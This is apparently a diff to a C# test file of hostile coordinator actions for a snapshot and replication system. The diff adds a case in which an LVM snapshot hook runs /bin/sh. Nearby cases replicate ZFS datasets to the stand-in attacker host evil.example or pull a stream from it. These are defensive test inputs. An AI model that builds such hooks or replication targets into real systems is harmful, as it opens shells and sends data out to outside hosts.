@@ -66,6 +66,12 @@ public sealed class HostileCoordinatorTests : IDisposable
                 ZfsSnapshot = new ZfsSnapshotAction { Datasets = { "tank/data" }, Before = new SnapshotHook { Command = new CommandAction { Program = "/bin/sh" } } },
             }
         },
+        {
+            "a snapshot of a volume with a shell after it", new Protocol.V1.Action
+            {
+                LvmSnapshot = new LvmSnapshotAction { Volumes = { "vg/vol" }, After = new SnapshotHook { Command = new CommandAction { Program = "/bin/sh" } } },
+            }
+        },
         { "everything to a host of his", new Protocol.V1.Action { ZfsReplicate = new ZfsReplicateAction { Source = "tank", Target = "loot/tank", SnapshotsOf = "nightly", TargetHost = new SshRemote { Host = "evil.example" } } } },
         { "a copy of what may not be sent", new Protocol.V1.Action { ZfsReplicate = new ZfsReplicateAction { Source = "tank/other", Target = "tank/data/in", SnapshotsOf = "nightly" } } },
         { "a stream of his into a dataset", new Protocol.V1.Action { ZfsReplicate = new ZfsReplicateAction { Source = "evil/data", Target = "tank/other", SnapshotsOf = "nightly", SourceHost = new SshRemote { Host = "evil.example" } } } },
